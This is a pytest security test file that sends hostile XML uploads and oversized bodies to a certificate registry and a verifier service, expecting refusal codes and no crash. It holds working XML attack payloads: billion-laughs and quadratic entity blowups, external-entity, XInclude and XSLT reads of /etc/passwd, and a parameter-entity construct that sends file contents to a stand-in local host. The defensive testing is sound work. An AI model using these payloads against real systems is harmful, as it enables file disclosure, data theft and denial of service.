"""XML attacks on DCC uploads, and uploads at and over the size limits, to both services running as processes of
their own (one per service for the module), with their default limits: each answer asserted by status and machine
code, never a 5xx, and the process still answering /health afterwards.

The registry receives each attack as the original document of a certificate (multipart ``record`` + ``document``,
the record's ``original_document.sha256`` the attack's hash), as a lab's API client sends it. XML the verifier would
fail as DOCUMENT_WELL_FORMED (unsafe, malformed, no valid DCC) it refuses at upload with the verifier's code, so it
never anchors a certificate the verifier calls invalid; a ``ds:Signature`` in a valid DCC must verify. The
verifier receives each attack beside an anchored bundle, as the ``document`` part (the bundle in ``file``) and as
the ``file`` part (the bundle in ``bundle``): DOCUMENT_WELL_FORMED (and DCC_SIGNATURE) say why, by code.

Size limits already covered elsewhere (in-process, small limits): the registry's JSON body over the limit by
Content-Length and chunked, a record part over, a document at and one byte over ``max_document_bytes``, a bulk of
``bulk_max`` + 1 (tests/registry/refusals/); the verifier's upload over the limit by Content-Length and streamed
(tests/verifier/api/test_limits.py), a report's file, ZIP members and upload over, rows and files over
``MAX_ITEMS`` (tests/verifier/test_reports_api.py). The limits table here adds the rest: exactly at each byte
limit, and one byte over, through the real servers.
"""

from __future__ import annotations

import functools
import hashlib
import itertools
import json
import re
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest

from tests.hostile import assert_alive, service
from tests.registry.conftest import LabWorld, standalone_world
from tests.verifier.conftest import chain_of_three
from tests.verifier.world import build_world
from tracecert.certificate.dcc.schema import DEFAULT_MAX_BYTES as DCC_LIMIT
from tracecert.chain.client import ChainClient

pytestmark = pytest.mark.chain

#: The services' default limits (README, "What the services accept"): the processes run with them.
REGISTRY_BODY = 16 * 1024 * 1024
REGISTRY_DOCUMENT = 20 * 1024 * 1024
VERIFIER_UPLOAD = 10 * 1024 * 1024

DCC_DATA = Path(__file__).parent / "certificate" / "data" / "dcc"
_numbers = itertools.count(1)

# --------------------------------------------------------------------------------------------- the services


@dataclass
class Served:
    """A service process: its URL, the process and its log."""

    url: str
    process: subprocess.Popen[bytes]
    log: Path

    def alive(self) -> None:
        """It still runs and answers /health."""
        assert_alive(self.url, self.process, self.log)


@pytest.fixture(scope="module")
def lab_world(client: ChainClient, tmp_path_factory: pytest.TempPathFactory) -> LabWorld:
    """The registry's world on a deployment of its own, on SQLite."""
    directory = tmp_path_factory.mktemp("xml-registry")
    return standalone_world(client, f"sqlite:///{directory / 'registry.db'}", directory)


@pytest.fixture(scope="module")
def registry(lab_world: LabWorld) -> Iterator[Served]:
    """``tracecert registry serve --no-worker`` over the world's database, default limits."""
    data_dir = lab_world.core.settings.data_dir
    lab_world.chain.contracts.deployment.save(data_dir / "deployment.json")
    env = {"TRACECERT_REGISTRY_DATABASE_URL": lab_world.core.settings.database, "TRACECERT_REGISTRY_SECRET": "s" * 40}
    args = ["registry", "serve", "--no-worker", "--data-dir", str(data_dir), "--rpc-url", lab_world.chain.client.url]
    log = data_dir / "registry.log"
    with service(args, env, log=log) as (url, process):
        yield Served(url, process, log)


@pytest.fixture(scope="module")
def verifier(client: ChainClient, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Served, bytes]]:
    """``tracecert verifier serve`` on its index (default limits, no rate limit) and an anchored leaf bundle."""
    world = build_world(client)
    _, _, leaf = chain_of_three(world)
    directory = tmp_path_factory.mktemp("xml-verifier")
    world.chain.contracts.deployment.save(directory / "deployment.json")
    env = {
        "TRACECERT_VERIFIER_RPC_URL": world.chain.client.url,
        "TRACECERT_VERIFIER_DATA_DIR": str(directory),
        "TRACECERT_VERIFIER_RATE_LIMIT_PER_MINUTE": "0",
    }
    log = directory / "verifier.log"
    with service(["verifier", "serve", "--chain-view", "index"], env, log=log) as (url, process):
        yield Served(url, process, log), json.dumps(leaf).encode()


# --------------------------------------------------------------------------------------------- the attacks

DCC_OPEN = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<dcc:digitalCalibrationCertificate xmlns:dcc="https://ptb.de/dcc" schemaVersion="3.3.0"'
)
DCC_CLOSE = b"</dcc:digitalCalibrationCertificate>\n"


def _dcc(body: bytes, *, doctype: bytes = b"", attributes: bytes = b"") -> bytes:
    """An XML document whose root is a DCC 3.3.0 (not a valid one): ``doctype`` before it, ``body`` inside."""
    head = DCC_OPEN.replace(b"\n", b"\n" + doctype, 1) if doctype else DCC_OPEN
    return head + attributes + b">" + body + DCC_CLOSE


def _billion_laughs() -> bytes:
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%d;" % (i - 1) for _ in range(10))) for i in range(1, 10)
    )
    return _dcc(b"&lol9;", doctype=b"<!DOCTYPE dcc:digitalCalibrationCertificate [" + entities + b"]>\n")


def _quadratic() -> bytes:
    entity = b'<!DOCTYPE dcc:digitalCalibrationCertificate [<!ENTITY a "' + b"x" * 100_000 + b'">]>\n'
    return _dcc(b"&a;" * 50_000, doctype=entity)


def _external_entity(uri: bytes) -> bytes:
    doctype = b'<!DOCTYPE dcc:digitalCalibrationCertificate [<!ENTITY ext SYSTEM "' + uri + b'">]>\n'
    return _dcc(b"<dcc:administrativeData>&ext;</dcc:administrativeData>", doctype=doctype)


def _parameter_entities() -> bytes:
    doctype = (
        b'<!DOCTYPE dcc:digitalCalibrationCertificate [<!ENTITY % file SYSTEM "file:///etc/passwd">'
        b"<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM 'http://127.0.0.1:1/?%file;'>\">%wrap;%send;]>\n"
    )
    return _dcc(b"", doctype=doctype)


def _external_dtd() -> bytes:
    return _dcc(b"", doctype=b'<!DOCTYPE dcc:digitalCalibrationCertificate SYSTEM "http://127.0.0.1:1/dcc.dtd">\n')


def _xinclude() -> bytes:
    return _dcc(b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>')


def _deep(levels: int) -> bytes:
    return _dcc(b"<dcc:a>" * levels + b"</dcc:a>" * levels)


def _huge_attribute(size: int) -> bytes:
    """A DCC whose root carries an attribute of ``size`` bytes in all."""
    shell = len(_dcc(b"", attributes=b' x=""'))
    return _dcc(b"", attributes=b' x="' + b"a" * (size - shell) + b'"')


def _huge_text(size: int) -> bytes:
    shell = len(_dcc(b"<dcc:administrativeData></dcc:administrativeData>"))
    return _dcc(b"<dcc:administrativeData>" + b"t" * (size - shell) + b"</dcc:administrativeData>")


def _many_attributes(count: int) -> bytes:
    return _dcc(b"", attributes=b"".join(b' a%d="%d"' % (i, i) for i in range(count)))


def _utf16() -> bytes:
    text = (DCC_OPEN + b"></dcc:digitalCalibrationCertificate>").decode().replace("UTF-8", "UTF-16")
    return text.encode("utf-16")


def _utf7() -> bytes:
    return _dcc(b"+ADw-script+AD4-").replace(b"UTF-8", b"UTF-7")


@functools.cache
def _signed() -> bytes:
    return (DCC_DATA / "dcclib-3.3.0-signed.xml").read_bytes()


def _with_transform(transform: bytes) -> bytes:
    """The shared signed DCC with ``transform`` as its reference's first transform."""
    signed = _signed()
    assert signed.count(b"<ds:Transforms>") == 1
    return signed.replace(b"<ds:Transforms>", b"<ds:Transforms>" + transform)


XPATH = (
    b'<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116">'
    b"<ds:XPath>count(//. | //@* | //namespace::*) &gt; 0</ds:XPath></ds:Transform>"
)
XSLT = (
    b'<ds:Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116">'
    b'<xsl:stylesheet xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0">'
    b'<xsl:template match="/"><xsl:copy-of select="document(\'file:///etc/passwd\')"/></xsl:template>'
    b"</xsl:stylesheet></ds:Transform>"
)


def _huge_signature_value() -> bytes:
    signed = _signed()
    value = re.search(rb"<ds:SignatureValue>[^<]*</ds:SignatureValue>", signed)
    assert value is not None
    return signed.replace(
        value.group(), b"<ds:SignatureValue>" + b"QUFB" * (5 * 1024 * 1024 // 4) + b"</ds:SignatureValue>"
    )


def _valid_of_size(size: int) -> bytes:
    """The shared valid DCC 3.3.0 followed by whitespace (after its root: still the same DCC) to ``size`` bytes."""
    valid = (DCC_DATA / "dcclib-3.3.0-valid.xml").read_bytes()
    return valid + b"\n" * (size - len(valid))


#: Expectations. The registry: (status, code) of the upload; 201 and "" when it is accepted. The verifier: the
#: upload's status and, at 200, the failing check and the code its detail starts with ("DOCUMENT_WELL_FORMED",
#: "XML_UNSAFE"); the check "" with code "" means the document was read as a well-formed DCC; at 4xx the error code.
#: One rulebook: what the verifier fails as DOCUMENT_WELL_FORMED, the registry refuses at upload with the same code.
REGISTRY_ACCEPTS = (201, "")


def REFUSED(code: str) -> tuple[int, str]:
    """The registry refuses the upload (422) with ``code``."""
    return (422, code)


@dataclass(frozen=True)
class Attack:
    """One XML attack and what each service answers."""

    name: str
    build: Callable[[], bytes]
    registry: tuple[int, str]
    verifier: tuple[int, str, str]


ATTACKS: list[Attack] = [
    Attack("billion laughs", _billion_laughs, REFUSED("XML_UNSAFE"), (200, "DOCUMENT_WELL_FORMED", "XML_UNSAFE")),
    Attack("quadratic blowup", _quadratic, REFUSED("XML_UNSAFE"), (200, "DOCUMENT_WELL_FORMED", "XML_UNSAFE")),
    Attack(
        "external entity file",
        lambda: _external_entity(b"file:///etc/passwd"),
        REFUSED("XML_UNSAFE"),
        (200, "DOCUMENT_WELL_FORMED", "XML_UNSAFE"),
    ),
    Attack(
        "external entity http",
        lambda: _external_entity(b"http://127.0.0.1:1/"),
        REFUSED("XML_UNSAFE"),
        (200, "DOCUMENT_WELL_FORMED", "XML_UNSAFE"),
    ),
    Attack(
        "parameter entities", _parameter_entities, REFUSED("XML_UNSAFE"), (200, "DOCUMENT_WELL_FORMED", "XML_UNSAFE")
    ),
    Attack("external DTD", _external_dtd, REFUSED("XML_UNSAFE"), (200, "DOCUMENT_WELL_FORMED", "XML_UNSAFE")),
    Attack("XInclude", _xinclude, REFUSED("DCC_INVALID"), (200, "DOCUMENT_WELL_FORMED", "DCC_INVALID")),
    Attack(
        "10k levels deep",
        lambda: _deep(10_000),
        REFUSED("XML_MALFORMED"),
        (200, "DOCUMENT_WELL_FORMED", "XML_MALFORMED"),
    ),
    # Over 10 MB fits the registry's document limit; the verifier's upload limit is 10 MiB: at it, with the bundle.
    Attack(
        "huge attribute (11 MB)",
        lambda: _huge_attribute(11_000_000),
        REFUSED("DCC_TOO_LARGE"),
        (413, "", "PAYLOAD_TOO_LARGE"),
    ),
    Attack(
        "huge attribute (under the DCC limit)",
        lambda: _huge_attribute(DCC_LIMIT),
        REFUSED("DCC_INVALID"),
        (200, "DOCUMENT_WELL_FORMED", "DCC_INVALID"),
    ),
    Attack(
        "huge text node",
        lambda: _huge_text(DCC_LIMIT),
        REFUSED("DCC_INVALID"),
        (200, "DOCUMENT_WELL_FORMED", "DCC_INVALID"),
    ),
    Attack(
        "100k attributes",
        lambda: _many_attributes(100_000),
        REFUSED("XML_UNSAFE"),
        (200, "DOCUMENT_WELL_FORMED", "XML_UNSAFE"),
    ),
    Attack("UTF-16 declared", _utf16, REGISTRY_ACCEPTS, (415, "", "UNSUPPORTED_MEDIA_TYPE")),
    Attack("UTF-7 declared", _utf7, REFUSED("XML_MALFORMED"), (200, "DOCUMENT_WELL_FORMED", "XML_MALFORMED")),
    Attack(
        "ds:Signature with an XPath transform",
        lambda: _with_transform(XPATH),
        (422, "DCC_SIGNATURE_INVALID"),
        (200, "DCC_SIGNATURE", "DCC_SIGNATURE_INVALID"),
    ),
    Attack(
        "ds:Signature with an XSLT transform",
        lambda: _with_transform(XSLT),
        (422, "DCC_SIGNATURE_INVALID"),
        (200, "DCC_SIGNATURE", "DCC_SIGNATURE_INVALID"),
    ),
    Attack(
        "ds:Signature with a 5 MB SignatureValue",
        _huge_signature_value,
        (422, "DCC_SIGNATURE_INVALID"),
        (200, "DCC_SIGNATURE", "DCC_SIGNATURE_INVALID"),
    ),
    Attack("DCC at the DCC limit", lambda: _valid_of_size(DCC_LIMIT), REGISTRY_ACCEPTS, (200, "", "")),
    Attack(
        "DCC one byte over the DCC limit",
        lambda: _valid_of_size(DCC_LIMIT + 1),
        REFUSED("DCC_TOO_LARGE"),
        (200, "DOCUMENT_WELL_FORMED", "DCC_TOO_LARGE"),
    ),
]

TARGETS = ["registry", "verifier: document part", "verifier: file part"]


@functools.cache
def _attack_bytes(name: str) -> bytes:
    return next(a for a in ATTACKS if a.name == name).build()


def _sha256(data: bytes) -> str:
    return "0x" + hashlib.sha256(data).hexdigest()


def _upload_to_registry(world: LabWorld, served: Served, document: bytes) -> httpx.Response:
    """A certificate whose record binds ``document`` (application/xml), uploaded with it by the lab."""
    record = world.record(
        f"XML-{next(_numbers):04d}", original_document={"media_type": "application/xml", "sha256": _sha256(document)}
    )
    files: list[tuple[str, Any]] = [
        ("record", (None, json.dumps(record), "application/json")),
        ("document", ("dcc.xml", document, "application/xml")),
    ]
    return httpx.post(
        f"{served.url}/v1/certificates", files=files, headers={"Authorization": f"Bearer {world.token}"}, timeout=120
    )


def _verify(served: Served, bundle: bytes, document: bytes, target: str) -> httpx.Response:
    """The bundle and the document in one form: the document as ``document`` (bundle as ``file``) or as ``file``
    (bundle as ``bundle``)."""
    if target == "verifier: document part":
        files = [
            ("file", ("leaf.json", bundle, "application/json")),
            ("document", ("dcc.xml", document, "application/xml")),
        ]
    else:
        files = [
            ("bundle", ("leaf.json", bundle, "application/json")),
            ("file", ("dcc.xml", document, "application/xml")),
        ]
    return httpx.post(f"{served.url}/v1/verify", files=files, timeout=120)


def _outcome(report: dict[str, Any], check: str) -> tuple[str, str]:
    """(outcome, detail) of a report's check."""
    [found] = [c for c in report["checks"] if c["code"] == check]
    return str(found["outcome"]), str(found.get("detail") or "")


@pytest.mark.parametrize("target", TARGETS)
@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_xml_attack(request: pytest.FixtureRequest, target: str, attack: Attack) -> None:
    document = _attack_bytes(attack.name)
    if target == "registry":
        world: LabWorld = request.getfixturevalue("lab_world")
        served: Served = request.getfixturevalue("registry")
        response = _upload_to_registry(world, served, document)
        status, code = attack.registry
        assert response.status_code == status, response.text[:2000]
        if code:
            assert response.json()["error"]["code"] == code
        else:
            assert response.json()["digest"]
    else:
        served, bundle = request.getfixturevalue("verifier")
        response = _verify(served, bundle, document, target)
        status, check, code = attack.verifier
        assert response.status_code == status, response.text[:2000]
        body = response.json()
        if status != 200:
            assert body["error"]["code"] == code
        elif check:
            assert body["verdict"] == "INVALID"
            outcome, detail = _outcome(body, check)
            assert outcome == "FAIL" and detail.startswith(f"{code}:"), (outcome, detail)
        else:
            assert _outcome(body, "DOCUMENT_WELL_FORMED")[0] == "PASS"
    served.alive()


# --------------------------------------------------------------------------------------------- size limits


def _padded(data: bytes, size: int) -> bytes:
    """JSON ``data`` followed by spaces to ``size`` bytes (still the same JSON)."""
    assert len(data) <= size
    return data + b" " * (size - len(data))


def _chunked(data: bytes) -> Iterator[bytes]:
    """``data`` sent without a Content-Length (chunked): only counting while reading can stop it."""
    for i in range(0, len(data), 1 << 20):
        yield data[i : i + (1 << 20)]


def _multipart(parts: list[tuple[str, str, bytes]], size: int) -> tuple[bytes, str]:
    """A multipart body of exactly ``size`` bytes: ``(name, filename, content)`` parts, the first padded with
    spaces (JSON). Returns the body and its Content-Type."""
    boundary = "tracecert-limit-boundary"

    def frame(name: str, filename: str, content: bytes) -> bytes:
        disposition = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename else "")
        return f"--{boundary}\r\nContent-Disposition: {disposition}\r\n\r\n".encode() + content + b"\r\n"

    rest = b"".join(frame(*part) for part in parts[1:]) + f"--{boundary}--\r\n".encode()
    name, filename, content = parts[0]
    shell = len(frame(name, filename, b"")) + len(rest)
    return frame(name, filename, _padded(content, size - shell)) + rest, f"multipart/form-data; boundary={boundary}"


def _record_json(world: LabWorld) -> bytes:
    return json.dumps({"record": world.record(f"LIMIT-{next(_numbers):04d}")}).encode()


def _registry_json(world: LabWorld, size: int, *, chunked: bool = False) -> dict[str, Any]:
    body = _padded(_record_json(world), size)
    return {"content": _chunked(body) if chunked else body, "headers": {"Content-Type": "application/json"}}


def _registry_record_part(world: LabWorld, size: int) -> dict[str, Any]:
    record = json.dumps(world.record(f"LIMIT-{next(_numbers):04d}")).encode()
    return {"files": [("record", (None, _padded(record, size), "application/json"))]}


def _verifier_json(bundle: bytes, size: int, *, chunked: bool = False) -> dict[str, Any]:
    body = _padded(bundle, size)
    return {"content": _chunked(body) if chunked else body, "headers": {"Content-Type": "application/json"}}


def _verifier_form(bundle: bytes, size: int) -> dict[str, Any]:
    body, content_type = _multipart([("file", "leaf.json", bundle)], size)
    return {"content": body, "headers": {"Content-Type": content_type}}


def _report_file(size: int) -> dict[str, Any]:
    return {"files": [("file", ("big.pdf", b"%PDF-1.7\n" + b" " * (size - 9), "application/pdf"))]}


@dataclass(frozen=True)
class Limit:
    """One upload at or just over a limit: where it goes, how it is built (from the lab's world or the anchored
    bundle), and the answer (status; the error code, or "" for an answer that is not an error)."""

    name: str
    service: str
    path: str
    build: Callable[[Any], dict[str, Any]]
    status: int
    code: str


LIMITS: list[Limit] = [
    Limit(
        "JSON body at the limit", "registry", "/v1/certificates", lambda w: _registry_json(w, REGISTRY_BODY), 201, ""
    ),
    Limit(
        "JSON body one byte over",
        "registry",
        "/v1/certificates",
        lambda w: _registry_json(w, REGISTRY_BODY + 1),
        413,
        "PAYLOAD_TOO_LARGE",
    ),
    Limit(
        "chunked JSON body at the limit",
        "registry",
        "/v1/certificates",
        lambda w: _registry_json(w, REGISTRY_BODY, chunked=True),
        201,
        "",
    ),
    Limit(
        "chunked JSON body one byte over",
        "registry",
        "/v1/certificates",
        lambda w: _registry_json(w, REGISTRY_BODY + 1, chunked=True),
        413,
        "PAYLOAD_TOO_LARGE",
    ),
    Limit(
        "multipart record part at the limit",
        "registry",
        "/v1/certificates",
        lambda w: _registry_record_part(w, REGISTRY_BODY),
        201,
        "",
    ),
    Limit(
        "multipart record part one byte over",
        "registry",
        "/v1/certificates",
        lambda w: _registry_record_part(w, REGISTRY_BODY + 1),
        413,
        "PAYLOAD_TOO_LARGE",
    ),
    Limit("JSON upload at the limit", "verifier", "/v1/verify", lambda b: _verifier_json(b, VERIFIER_UPLOAD), 200, ""),
    Limit(
        "JSON upload one byte over",
        "verifier",
        "/v1/verify",
        lambda b: _verifier_json(b, VERIFIER_UPLOAD + 1),
        413,
        "PAYLOAD_TOO_LARGE",
    ),
    Limit(
        "chunked JSON upload at the limit",
        "verifier",
        "/v1/verify",
        lambda b: _verifier_json(b, VERIFIER_UPLOAD, chunked=True),
        200,
        "",
    ),
    Limit(
        "chunked JSON upload one byte over",
        "verifier",
        "/v1/verify",
        lambda b: _verifier_json(b, VERIFIER_UPLOAD + 1, chunked=True),
        413,
        "PAYLOAD_TOO_LARGE",
    ),
    Limit("form upload at the limit", "verifier", "/v1/verify", lambda b: _verifier_form(b, VERIFIER_UPLOAD), 200, ""),
    Limit(
        "form upload one byte over",
        "verifier",
        "/v1/verify",
        lambda b: _verifier_form(b, VERIFIER_UPLOAD + 1),
        413,
        "PAYLOAD_TOO_LARGE",
    ),
    Limit(
        "report file at the member limit", "verifier", "/v1/reports", lambda b: _report_file(VERIFIER_UPLOAD), 202, ""
    ),
]


@pytest.mark.parametrize("limit", LIMITS, ids=[f"{x.service}: {x.name}" for x in LIMITS])
def test_upload_at_and_over_the_limit(request: pytest.FixtureRequest, limit: Limit) -> None:
    headers: dict[str, str] = {}
    if limit.service == "registry":
        world: LabWorld = request.getfixturevalue("lab_world")
        served: Served = request.getfixturevalue("registry")
        arguments = limit.build(world)
        headers["Authorization"] = f"Bearer {world.token}"
    else:
        served, bundle = request.getfixturevalue("verifier")
        arguments = limit.build(bundle)
    headers |= arguments.pop("headers", {})
    response = httpx.post(f"{served.url}{limit.path}", headers=headers, timeout=120, **arguments)
    assert response.status_code == limit.status, response.text[:2000]
    body = response.json()
    if limit.code:
        assert body["error"]["code"] == limit.code
        assert body["error"]["message"]
    elif limit.path == "/v1/verify":  # read and verified (its standards' bundles are not at hand: no registry)
        assert _outcome(body, "ANCHORED")[0] == "PASS" and _outcome(body, "SIGNATURE_VALID")[0] == "PASS"
    elif limit.path == "/v1/reports":
        assert body["id"] and body["total"] == 1
    else:
        assert body["digest"]
    served.alive()
